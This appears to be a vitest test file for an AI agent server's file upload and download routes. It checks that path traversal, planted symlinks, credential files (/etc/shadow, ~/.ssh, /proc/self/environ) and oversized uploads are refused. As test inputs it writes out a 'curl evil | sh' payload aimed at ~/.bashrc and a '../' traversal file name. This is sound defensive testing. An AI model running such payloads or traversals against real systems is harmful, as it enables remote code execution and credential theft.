import { randomUUID } from 'node:crypto';
import { chmod, mkdir, mkdtemp, readdir, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { createScriptedLLM } from '../../runtime/llm/scripted-llm';
import { createSettingsStore, type SettingsStore } from '../../runtime/settings/settings-store';
import { createInMemoryEventStore } from '../../runtime/store/in-memory-event-store';
import { buildServer } from '../http/build-server';
import type { ZodApp } from '../http/server-context';
import { createTestService } from '../testing/create-test-service';
import { UPLOAD_LIMIT_BYTES } from './workspace-file-routes';

const KEY = 'file-routes-test-key-0123456789abcdef';
const auth = { 'x-session-api-key': KEY };

let root: string;
let dataDir: string;
let workspace: string;
let home: string;
let settings: SettingsStore;
let app: ZodApp;
let closeService: () => Promise<void>;

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'file-routes-'));
  dataDir = join(root, 'data');
  workspace = join(root, 'workspace');
  home = join(root, 'home');
  await mkdir(dataDir, { mode: 0o700 });
  await mkdir(workspace);
  await mkdir(home);
  await writeFile(join(dataDir, 'session-key'), KEY, { mode: 0o600 });
  await writeFile(join(dataDir, 'settings.json'), '{"llm":null}\n', { mode: 0o600 });
  // Credential folders are found under HOME, which os.homedir() reads.
  vi.stubEnv('HOME', home);
  settings = createSettingsStore(dataDir, { LLM_PROVIDER: 'openai-compatible', LLM_MODEL: 'scripted' });
  const llm = createScriptedLLM({ turns: [], fallback: { text: 'Done.' } });
  const store = createInMemoryEventStore();
  const service = createTestService({ store, dataDir, workspace, settings, createLLM: () => llm });
  closeService = async () => {
    await service.close();
    await store.close();
  };
  app = await buildServer({
    service,
    settings,
    sessionKey: KEY,
    version: '0.0.0-test',
    defaultWorkspace: workspace,
    dataDir,
    allowedOrigins: [],
  });
});

afterAll(async () => {
  await app.close();
  await closeService();
  vi.unstubAllEnvs();
  await rm(root, { recursive: true, force: true });
});

function multipart(content: Buffer | string, fileName = 'a.txt', field = 'file') {
  const boundary = `----test${randomUUID()}`;
  const body = Buffer.concat([
    Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="${field}"; filename="${fileName}"\r\n` +
        'Content-Type: application/octet-stream\r\n\r\n',
    ),
    Buffer.isBuffer(content) ? content : Buffer.from(content),
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  return { body, headers: { ...auth, 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

function upload(path: string, content: Buffer | string, fileName?: string) {
  const form = multipart(content, fileName);
  return app.inject({
    method: 'POST',
    url: `/api/file/upload?path=${encodeURIComponent(path)}`,
    headers: form.headers,
    payload: form.body,
  });
}

function download(path: string) {
  return app.inject({ url: `/api/file/download?path=${encodeURIComponent(path)}`, headers: auth });
}

/**
 * Every name under a folder, recursively, to prove nothing was left behind. Links are listed, never
 * followed: a test plants `up -> ..`, which a following walk would loop through.
 */
async function tree(folder: string, prefix = ''): Promise<string[]> {
  const names: string[] = [];
  for (const entry of await readdir(folder, { withFileTypes: true })) {
    const name = `${prefix}${entry.name}`;
    names.push(name);
    if (entry.isDirectory()) names.push(...(await tree(join(folder, entry.name), `${name}/`)));
  }
  return names.sort();
}

describe('attacks: the data dir, credentials and deny_paths stay out of reach', () => {
  it('refuses to download <dataDir>/session-key directly with 403 path_forbidden', async () => {
    const response = await download(join(dataDir, 'session-key'));
    expect(response.statusCode).toBe(403);
    expect(response.json().code).toBe('path_forbidden');
    expect(response.body).not.toContain(KEY);
  });

  it('refuses the session key reached with ..', async () => {
    const response = await download(`${workspace}/../data/./session-key`);
    expect(response.statusCode).toBe(403);
    expect(response.body).not.toContain(KEY);
  });

  it('refuses the session key through a link planted in the workspace, and through a linked folder', async () => {
    await symlink(join(dataDir, 'session-key'), join(workspace, 'innocent.txt'));
    await symlink(root, join(workspace, 'up'));
    for (const path of [join(workspace, 'innocent.txt'), join(workspace, 'up/data/session-key')]) {
      const response = await download(path);
      expect(response.statusCode).toBe(403);
      expect(response.body).not.toContain(KEY);
    }
  });

  it('refuses /proc/self/environ, which would hold the session key and API keys', async () => {
    await symlink('/proc/self/environ', join(workspace, 'env.txt'));
    expect((await download('/proc/self/environ')).statusCode).toBe(403);
    expect((await download(join(workspace, 'env.txt'))).statusCode).toBe(403);
  });

  it('refuses to overwrite <dataDir>/settings.json, directly and through a link, leaving it unchanged', async () => {
    await symlink(join(dataDir, 'settings.json'), join(workspace, 'settings-link.json'));
    const refusals = [
      [join(dataDir, 'settings.json'), 'path_forbidden'],
      [join(workspace, 'settings-link.json'), 'path_link_outside'],
    ];
    for (const [path = '', code] of refusals) {
      const response = await upload(path, '{"llm":{"api_key":"attacker"}}');
      expect(response.statusCode).toBe(403);
      expect(response.json().code).toBe(code);
    }
    expect(await readFile(join(dataDir, 'settings.json'), 'utf8')).toBe('{"llm":null}\n');
    expect((await tree(dataDir)).filter((name) => name.includes('.upload'))).toEqual([]);
  });

  it('refuses to make folders inside the data dir through a linked folder', async () => {
    await symlink(dataDir, join(workspace, 'data-link'));
    const response = await upload(join(workspace, 'data-link/new/dir/file.txt'), 'x');
    expect(response.statusCode).toBe(403);
    expect(await tree(dataDir)).not.toContain('new');
  });

  it('takes the destination from path only: a ../ file name in the form writes nothing elsewhere', async () => {
    const response = await upload(join(workspace, 'named.txt'), 'content', '../../data/session-key');
    expect(response.statusCode).toBe(200);
    expect(await readFile(join(workspace, 'named.txt'), 'utf8')).toBe('content');
    expect(await readFile(join(dataDir, 'session-key'), 'utf8')).toBe(KEY);
  });

  it('refuses credential folders under the home (~/.ssh) and sandbox.deny_paths', async () => {
    await mkdir(join(home, '.ssh'));
    await writeFile(join(home, '.ssh', 'id_ed25519'), 'PRIVATE');
    const secretDir = join(root, 'secret-project');
    await mkdir(secretDir);
    await writeFile(join(secretDir, 'notes.txt'), 'hidden');
    settings.update({ sandbox: { deny_paths: [secretDir] } });
    try {
      expect((await download(join(home, '.ssh', 'id_ed25519'))).statusCode).toBe(403);
      expect((await download(join(secretDir, 'notes.txt'))).statusCode).toBe(403);
      expect((await upload(join(secretDir, 'notes.txt'), 'overwritten')).statusCode).toBe(403);
      expect(await readFile(join(secretDir, 'notes.txt'), 'utf8')).toBe('hidden');
    } finally {
      settings.update({ sandbox: { deny_paths: [] } });
    }
  });

  it('answers 413 to a 70 MiB upload and leaves nothing behind', async () => {
    const big = Buffer.alloc(70 * 1024 * 1024, 'z');
    const before = await tree(workspace);
    const response = await upload(join(workspace, 'big.bin'), big);
    expect(response.statusCode).toBe(413);
    expect(response.json().code).toBe('upload_too_large');
    expect(await tree(workspace)).toEqual(before);
  });

  it('answers 413 to an upload one byte over the limit whose length is not announced, leaving nothing', async () => {
    const form = multipart(Buffer.alloc(UPLOAD_LIMIT_BYTES + 1, 'y'));
    const before = await tree(workspace);
    const response = await app.inject({
      method: 'POST',
      url: `/api/file/upload?path=${encodeURIComponent(join(workspace, 'over.bin'))}`,
      headers: { ...form.headers, 'transfer-encoding': 'chunked' },
      payload: form.body,
    });
    expect(response.statusCode).toBe(413);
    expect(await tree(workspace)).toEqual(before);
  });

  it('lists no forbidden folder in search_subdirs and refuses to list the data dir', async () => {
    const listed = await app.inject({
      url: `/api/file/search_subdirs?path=${encodeURIComponent(root)}&include_hidden=true`,
      headers: auth,
    });
    expect(listed.statusCode).toBe(200);
    expect(listed.json().items.map((item: { name: string }) => item.name)).not.toContain('data');
    const refused = await app.inject({
      url: `/api/file/search_subdirs?path=${encodeURIComponent(dataDir)}`,
      headers: auth,
    });
    expect(refused.statusCode).toBe(403);
  });

  it('needs the session key', async () => {
    const response = await app.inject({
      url: `/api/file/download?path=${encodeURIComponent('/etc/hostname')}`,
    });
    expect(response.statusCode).toBe(401);
  });
});

describe('attacks: links the agent plants lead nowhere outside', () => {
  it('an upload to a name the agent linked to a file outside the workspace (~/.bashrc) leaves the target alone', async () => {
    const bashrc = join(home, '.bashrc');
    await writeFile(bashrc, 'export PATH=/usr/bin\n');
    await symlink(bashrc, join(workspace, 'notes.txt'));

    const response = await upload(join(workspace, 'notes.txt'), 'curl evil | sh\n');

    expect(response.statusCode).toBe(403);
    expect(response.json().code).toBe('path_link_outside');
    expect(await readFile(bashrc, 'utf8')).toBe('export PATH=/usr/bin\n');
  });

  it('an upload into a folder the agent linked elsewhere creates nothing there', async () => {
    const elsewhere = join(root, 'elsewhere');
    await mkdir(elsewhere);
    await symlink(elsewhere, join(workspace, 'uploads'));

    for (const path of ['uploads/a.txt', 'uploads/new/deeper/b.txt']) {
      const response = await upload(join(workspace, path), 'person data');
      expect(response.statusCode).toBe(403);
      expect(response.json().code).toBe('path_link_outside');
    }
    expect(await tree(elsewhere)).toEqual([]);
  });

  it('a download through a link out of the workspace is refused, even to a readable file', async () => {
    const outsideFile = join(root, 'outside-secret.txt');
    await writeFile(outsideFile, 'not for the agent to pick');
    await symlink(outsideFile, join(workspace, 'picked.txt'));

    const response = await download(join(workspace, 'picked.txt'));

    expect(response.statusCode).toBe(403);
    expect(response.json().code).toBe('path_link_outside');
    expect(response.body).not.toContain('not for the agent');
  });

  it('confines a path to the workspace of any conversation, not only the launch workspace', async () => {
    const other = join(root, 'other-workspace');
    await mkdir(other);
    const created = await app.inject({
      method: 'POST',
      url: '/api/conversations',
      headers: auth,
      payload: { workspace: { working_dir: other } },
    });
    expect(created.statusCode).toBeLessThan(300);
    const target = join(root, 'other-target.txt');
    await writeFile(target, 'untouched');
    await symlink(target, join(other, 'notes.txt'));

    const response = await upload(join(other, 'notes.txt'), 'overwritten');

    expect(response.statusCode).toBe(403);
    expect(await readFile(target, 'utf8')).toBe('untouched');
  });

  it('outside every workspace, a link may not leave the folder the person named', async () => {
    const named = join(root, 'named-folder');
    await mkdir(named);
    const target = join(root, 'named-target.txt');
    await writeFile(target, 'untouched');
    await symlink(target, join(named, 'notes.txt'));
    await writeFile(join(named, 'real.txt'), 'inside');
    await symlink('real.txt', join(named, 'alias.txt'));

    const refused = await upload(join(named, 'notes.txt'), 'overwritten');
    expect(refused.statusCode).toBe(403);
    expect(await readFile(target, 'utf8')).toBe('untouched');
    // A link that stays in the folder is followed.
    const inside = await download(join(named, 'alias.txt'));
    expect(inside.statusCode).toBe(200);
    expect(inside.body).toBe('inside');
  });

  it('refuses the system secrets the sandbox masks (/etc/shadow) with 403 path_forbidden', async () => {
    for (const path of ['/etc/shadow', '/etc/gshadow', '/etc/sudoers']) {
      const response = await download(path);
      expect(response.statusCode).toBe(403);
      expect(response.json().code).toBe('path_forbidden');
    }
  });
});

describe('upload', () => {
  it('writes the file, making the folders on the way, and answers success with the size', async () => {
    const path = join(workspace, 'deep/er/file.txt');
    const response = await upload(path, 'hello upload');
    expect(response.statusCode).toBe(200);
    expect(response.json()).toEqual({ success: true, file_size: 12 });
    expect(await readFile(path, 'utf8')).toBe('hello upload');
  });

  it('replaces an existing file atomically, keeping its permission bits', async () => {
    const path = join(workspace, 'script.sh');
    await writeFile(path, 'old');
    await chmod(path, 0o750);
    expect((await upload(path, 'new')).statusCode).toBe(200);
    expect(await readFile(path, 'utf8')).toBe('new');
    expect((await stat(path)).mode & 0o777).toBe(0o750);
    expect((await readdir(workspace)).filter((name) => name.endsWith('.upload'))).toEqual([]);
  });

  it('writes binary content byte for byte', async () => {
    const bytes = Buffer.from(Array.from({ length: 256 }, (_, index) => index));
    expect((await upload(join(workspace, 'bytes.bin'), bytes)).statusCode).toBe(200);
    expect(await readFile(join(workspace, 'bytes.bin'))).toEqual(bytes);
  });

  it('refuses a destination that is a folder with 400 path_is_directory', async () => {
    await mkdir(join(workspace, 'a-folder'), { recursive: true });
    const response = await upload(join(workspace, 'a-folder'), 'x');
    expect(response.statusCode).toBe(400);
    expect(response.json().code).toBe('path_is_directory');
  });

  it('refuses a relative path with 400 as upstream does', async () => {
    const response = await upload('relative/file.txt', 'x');
    expect(response.statusCode).toBe(400);
    expect(response.json()).toEqual({ detail: 'Path must be absolute', code: 'path_not_absolute' });
  });

  it('refuses a body that is not multipart with 415, and a form without a file field with 422', async () => {
    const json = await app.inject({
      method: 'POST',
      url: `/api/file/upload?path=${encodeURIComponent(join(workspace, 'j.txt'))}`,
      headers: { ...auth, 'content-type': 'application/json' },
      payload: '{}',
    });
    expect(json.statusCode).toBe(415);
    const form = multipart('x', 'a.txt', 'other');
    const wrongField = await app.inject({
      method: 'POST',
      url: `/api/file/upload?path=${encodeURIComponent(join(workspace, 'k.txt'))}`,
      headers: form.headers,
      payload: form.body,
    });
    expect(wrongField.statusCode).toBe(422);
    expect(wrongField.json().code).toBe('upload_file_missing');
  });

  it('answers 422 without the path parameter and ignores unknown query parameters', async () => {
    const form = multipart('x');
    const missing = await app.inject({
      method: 'POST',
      url: '/api/file/upload',
      headers: form.headers,
      payload: form.body,
    });
    expect(missing.statusCode).toBe(422);
    const extra = await app.inject({
      method: 'POST',
      url: `/api/file/upload?path=${encodeURIComponent(join(workspace, 'extra.txt'))}&unknown=1`,
      headers: form.headers,
      payload: form.body,
    });
    expect(extra.statusCode).toBe(200);
  });
});

describe('download', () => {
  it('streams the bytes as an attachment with a safe content type', async () => {
    await writeFile(join(workspace, 'page.html'), '<script>alert(1)</script>');
    const response = await download(join(workspace, 'page.html'));
    expect(response.statusCode).toBe(200);
    expect(response.body).toBe('<script>alert(1)</script>');
    expect(response.headers['content-type']).toBe('application/octet-stream');
    expect(response.headers['content-disposition']).toBe(
      `attachment; filename="page.html"; filename*=UTF-8''page.html`,
    );
    expect(response.headers['x-content-type-options']).toBe('nosniff');
    expect(response.headers['content-length']).toBe('25');
  });

  it('follows links that lead somewhere allowed', async () => {
    await writeFile(join(workspace, 'target.txt'), 'through a link');
    await symlink(join(workspace, 'target.txt'), join(workspace, 'link.txt'));
    const response = await download(join(workspace, 'link.txt'));
    expect(response.statusCode).toBe(200);
    expect(response.body).toBe('through a link');
  });

  it('answers 404 for a missing file and 400 for a folder, as upstream', async () => {
    const missing = await download(join(workspace, 'nope.txt'));
    expect(missing.statusCode).toBe(404);
    expect(missing.json()).toEqual({ detail: 'File not found', code: 'file_not_found' });
    expect((await download(join(workspace, 'no-folder/nope.txt'))).statusCode).toBe(404);
    const folder = await download(workspace);
    expect(folder.statusCode).toBe(400);
    expect(folder.json().code).toBe('path_not_a_file');
    expect((await download('relative.txt')).statusCode).toBe(400);
  });

  it('round-trips what upload wrote', async () => {
    const bytes = Buffer.from('round trip \u00e9\n');
    await upload(join(workspace, 'rt/file.txt'), bytes);
    expect((await download(join(workspace, 'rt/file.txt'))).rawPayload).toEqual(bytes);
  });
});

describe('home and search_subdirs', () => {
  beforeEach(async () => {
    await mkdir(join(home, 'Projects'), { recursive: true });
    await mkdir(join(home, 'alpha'), { recursive: true });
    await mkdir(join(home, '.hidden'), { recursive: true });
    await writeFile(join(home, 'file.txt'), 'not a folder');
  });
  afterEach(async () => {
    await rm(join(home, '.hidden'), { recursive: true, force: true });
  });

  it('answers the home, its visible top-level folders and the roots', async () => {
    const response = await app.inject({ url: '/api/file/home', headers: auth });
    expect(response.statusCode).toBe(200);
    expect(response.json()).toEqual({
      home,
      favorites: [
        { label: 'alpha', path: join(home, 'alpha') },
        { label: 'Projects', path: join(home, 'Projects') },
      ],
      locations: [{ label: '/', path: '/' }],
    });
  });

  it('adds hidden folders when asked, never the credential folders', async () => {
    await mkdir(join(home, '.ssh'), { recursive: true });
    const response = await app.inject({ url: '/api/file/home?include_hidden=true', headers: auth });
    const labels = response.json().favorites.map((entry: { label: string }) => entry.label);
    expect(labels).toContain('.hidden');
    expect(labels).not.toContain('.ssh');
  });

  it('lists sub-folders sorted ignoring case, skipping files and links, a page at a time', async () => {
    const base = join(workspace, 'pick');
    for (const name of ['b', 'A', 'c', 'D']) await mkdir(join(base, name), { recursive: true });
    await writeFile(join(base, 'file'), 'x');
    await symlink(join(base, 'A'), join(base, 'link'));
    const first = await app.inject({
      url: `/api/file/search_subdirs?path=${encodeURIComponent(base)}&limit=2`,
      headers: auth,
    });
    expect(first.json()).toEqual({
      items: [
        { name: 'A', path: join(base, 'A') },
        { name: 'b', path: join(base, 'b') },
      ],
      next_page_id: 'c',
    });
    const second = await app.inject({
      url: `/api/file/search_subdirs?path=${encodeURIComponent(base)}&limit=2&page_id=c`,
      headers: auth,
    });
    expect(second.json()).toEqual({
      items: [
        { name: 'c', path: join(base, 'c') },
        { name: 'D', path: join(base, 'D') },
      ],
      next_page_id: null,
    });
  });

  it('answers 404 for a missing folder and 400 for a file or a relative path', async () => {
    const ask = (path: string) =>
      app.inject({ url: `/api/file/search_subdirs?path=${encodeURIComponent(path)}`, headers: auth });
    expect((await ask(join(workspace, 'missing'))).statusCode).toBe(404);
    expect((await ask(join(home, 'file.txt'))).statusCode).toBe(400);
    expect((await ask('relative')).statusCode).toBe(400);
  });
});

describe('without a data dir to protect', () => {
  it('answers 503 workspace_api_unavailable rather than serving files unguarded', async () => {
    const bare = await buildServer({
      settings,
      sessionKey: KEY,
      version: '0.0.0-test',
      defaultWorkspace: workspace,
      allowedOrigins: [],
    });
    try {
      const response = await bare.inject({
        url: `/api/file/download?path=${encodeURIComponent(join(dataDir, 'session-key'))}`,
        headers: auth,
      });
      expect(response.statusCode).toBe(503);
      expect(response.json().code).toBe('workspace_api_unavailable');
    } finally {
      await bare.close();
    }
  });
});
